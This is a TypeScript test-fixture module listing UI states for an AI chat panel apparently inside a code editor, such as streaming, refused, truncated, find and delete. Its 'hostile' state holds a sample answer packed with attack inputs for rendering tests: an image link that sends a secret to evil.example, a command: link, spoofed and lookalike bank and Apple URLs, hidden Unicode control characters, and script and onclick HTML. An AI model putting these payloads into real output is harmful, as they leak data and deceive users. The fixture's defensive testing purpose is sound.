import { composerStates } from "./composerStates.ts";
import { failureStates } from "./failureStates.ts";
import type { PanelState } from "./panelState.ts";
import { textStates } from "./textStates.ts";
import {
  answer,
  codeSamples,
  composer,
  question,
  running,
  sampleAnswer,
  sampleReasoning,
  snapshot,
} from "./views.ts";

const ask = question("How does `subtotal` work, and can it be shorter?", {
  context: [{ id: "x", kind: "selection", label: "cart.ts:8-14", detail: "src/cart.ts" }],
});

export const states: Readonly<Record<string, PanelState>> = {
  ...composerStates,
  ...failureStates,
  ...textStates,
  empty: { options: {} },
  noToken: {
    options: {
      snapshot: snapshot({ account: { state: "signedOut", source: undefined }, draft: "My question" }),
    },
  },
  finished: {
    options: {
      snapshot: snapshot({ messages: [ask, answer(sampleAnswer, { reasoning: sampleReasoning })] }),
      height: 1500,
    },
  },
  code: {
    options: {
      snapshot: snapshot({ messages: [ask, answer(codeSamples)] }),
      height: 1500,
      waitFor: ".tok-keyword >> nth=0",
    },
  },
  thinking: {
    options: {
      snapshot: snapshot({ messages: [ask, answer("", { ...running, reasoning: sampleReasoning })] }),
    },
  },
  streaming: {
    options: { snapshot: snapshot({ messages: [ask, answer(sampleAnswer.slice(0, 700), running)] }) },
  },
  reasoningOpen: {
    options: { snapshot: snapshot({ messages: [ask, answer("Yes.", { reasoning: sampleReasoning })] }) },
    act: (panel) => panel.page.locator(".reasoningToggle").click(),
  },
  cancelled: {
    options: {
      snapshot: snapshot({ messages: [ask, answer("The first part", { state: { type: "cancelled" } })] }),
    },
  },
  truncated: {
    options: {
      snapshot: snapshot({
        messages: [ask, answer("```js\nlet a = 1;", { state: { type: "complete", truncated: true } })],
      }),
    },
  },
  refused: {
    options: { snapshot: snapshot({ messages: [ask, answer("", { refusal: "I can’t help with that." })] }) },
  },
  emptyAnswer: {
    options: { snapshot: snapshot({ messages: [ask, answer("")] }) },
  },
  context: {
    options: {
      snapshot: snapshot({
        draft: "Explain this,\nline by line.\n\nAnd say what is slow.",
        composer: composer({
          context: [
            { id: "1", kind: "selection", label: "cart.ts:8-14", detail: "src/cart.ts" },
            {
              id: "2",
              kind: "file",
              label: "a-file-with-a-very-long-name-that-needs-room.test.ts",
              detail: "src/long.ts",
            },
          ],
        }),
      }),
    },
  },
  long: {
    options: {
      snapshot: snapshot({
        messages: Array.from({ length: 6 }, (_, at) => [
          question(`Question ${at}`, { id: `q${at}` }),
          answer(sampleAnswer, { id: `a${at}` }),
        ]).flat(),
      }),
    },
    act: async (panel) => {
      await panel.page.locator(".scroller").hover();
      await panel.page.mouse.wheel(0, -600);
      await panel.page.locator(".jump:not([hidden])").waitFor();
    },
  },
  editing: {
    options: { snapshot: snapshot({ messages: [ask, answer(sampleAnswer)] }) },
    act: (panel) => panel.button("Edit & Resend").press("Enter"),
  },
  versions: {
    options: {
      snapshot: snapshot({
        messages: [
          { ...ask, branch: { index: 1, count: 2 } },
          answer("The second try.", { branch: { index: 1, count: 3 } }),
        ],
      }),
    },
  },
  finding: {
    options: { snapshot: snapshot({ messages: [ask, answer(sampleAnswer)] }) },
    act: async (panel) => {
      await panel.page.keyboard.press("Control+f");
      await panel.page.keyboard.type("line");
      await panel.page.locator(".findCount").getByText(/\d/).first().waitFor();
    },
  },
  findingNothing: {
    options: { snapshot: snapshot({ messages: [question("Hello?"), answer("Hello.")] }) },
    act: async (panel) => {
      await panel.page.keyboard.press("Control+f");
      await panel.page.keyboard.type("nowhere");
      await panel.page.getByText(panel.translated("No results")).waitFor();
    },
  },
  deleted: {
    options: {
      snapshot: snapshot({ messages: [ask, answer("Gone soon.")] }),
      replies: { deleteMessage: () => ({ undoId: "u" }) },
    },
    act: async (panel) => {
      await panel.button("Delete").last().press("Enter");
      await panel.button("Undo").waitFor();
    },
  },
  hostile: {
    options: {
      snapshot: snapshot({
        messages: [
          ask,
          answer(
            'See ![chart](https://evil.example/p.png?q=secret), [docs](http://plain.example), [run](command:x), [bank](https://bank.example@evil.example/), [bank.example](https://evil.example/login), [аррӏе](https://аррӏе.com).\n\nif (a\u202e b\u200b) \u{e0041}\u{e0042} <b>bold?</b>\n\n<div onclick="x()">\n<script>alert(1)</script>\n</div>\n\nA line<br>broken, https://valarhq.ai/docs.',
          ),
        ],
      }),
    },
  },
};
